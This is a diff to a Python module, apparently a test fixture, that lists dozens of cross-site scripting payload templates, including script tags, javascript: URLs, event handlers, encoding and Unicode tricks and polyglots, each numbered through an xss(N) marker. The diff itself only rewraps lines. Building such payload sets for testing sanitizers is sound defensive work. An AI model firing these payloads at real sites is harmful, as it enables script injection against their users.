@@ -1,4 +1,4 @@
-"""Scripts as strangers write them into fields. `xss(N)` carries the number by which one is known."""
+"""Scripts as strangers write them into fields; each is known by the number in its `xss(N)`."""
 
 import re
 
@@ -40,7 +40,8 @@ TEMPLATES = (
     "data:text/html;base64,PHNjcmlwdD54c3Mo#", "data:image/svg+xml,<svg onload=xss(#)>",
     "<a href=javascript:xss(#)>x</a>", "<a href=JAVASCRIPT:xss(#)>x</a>",
     "<a href='java\nscript:xss(#)'>x</a>", "<a href=data:text/html,xss(#)>x</a>",
-    "<form action=javascript:xss(#)><button>x</button></form>", "<button formaction=javascript:xss(#)>",
+    "<form action=javascript:xss(#)><button>x</button></form>",
+    "<button formaction=javascript:xss(#)>",
     "<iframe src=javascript:xss(#)>", "<iframe srcdoc='<script>parent.xss(#)</script>'>",
     "<embed src=javascript:xss(#)>", "<object data=javascript:xss(#)>", "<base href=//xss.test/#/>",
     "<meta http-equiv=refresh content='0;url=javascript:xss(#)'>", "<img src=//xss.test/#>",
@@ -54,7 +55,8 @@ TEMPLATES = (
     "` onmouseover=xss(#)", '\\"><img src=x onerror=xss(#)>', "\\'><img src=x onerror=xss(#)>",
     "</title><script>xss(#)</script>", "</textarea><script>xss(#)</script>",
     "</style><script>xss(#)</script>", "</option></select><img src=x onerror=xss(#)>",
-    "--><script>xss(#)</script>", "]]><script>xss(#)</script>", "</template><img src=x onerror=xss(#)>",
+    "--><script>xss(#)</script>", "]]><script>xss(#)</script>",
+    "</template><img src=x onerror=xss(#)>",
     "</text></svg><img src=x onerror=xss(#)>", "<!--<img src='--><img src=x onerror=xss(#)>'>",
     "<![CDATA[<img src=x onerror=xss(#)>]]>", "</td></tr></table><img src=x onerror=xss(#)>",
     "<plaintext>xss(#)", "<!--xss(#)", "<?xss(#)?><img src=x onerror=xss(#)>",
@@ -73,7 +75,8 @@ TEMPLATES = (
     "%3Cscript%3Exss(#)%3C/script%3E", "\uff1cscript\uff1exss(#)\uff1c/script\uff1e",
     "\u202e<script>xss(#)</script>\u202c", "\u2066\"><img src=x onerror=xss(#)>\u2069",
     "<img src=x onerror\u3000=xss(#)>", "<img src=x\u2028onerror=xss(#)>", "<scr\u00adipt>xss(#)",
-    "<\u017fcript>xss(#)</\u017fcript>", "\ufeff<script>xss(#)</script>", "<img src=x onerror\x0c=xss(#)>",
+    "<\u017fcript>xss(#)</\u017fcript>", "\ufeff<script>xss(#)</script>",
+    "<img src=x onerror\x0c=xss(#)>",
     "<img src=x onerror\x0b=xss(#)>", "\x1b<img src=x onerror=xss(#)>", "+ADw-script+AD4-xss(#)",
     "\u00bcscript\u00bexss(#)\u00bc/script\u00be", "<a\x01href=javascript:xss(#)>x",
     # Names of files, subjects of mails
@@ -83,7 +86,8 @@ TEMPLATES = (
     # In many places at once
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss(#) )//</stYle/</titLe/</teXtarEa/</scRipt/"
     "--!>\\x3csVg/<sVg/oNloAd=xss(#)//>",
-    "'\"--></style></script><svg onload=xss(#)>", "'\">><marquee><img src=x onerror=xss(#)></marquee>",
+    "'\"--></style></script><svg onload=xss(#)>",
+    "'\">><marquee><img src=x onerror=xss(#)></marquee>",
     "\"'`><img src=x onerror=xss(#)>", "*/xss(#)/*'\"</textarea><svg/onload=xss(#)>",
 )  # fmt: skip
 PAYLOADS = tuple(text.replace("#)", f"{n})").replace("`#`", f"`{n}`").replace("/#", f"/{n}")
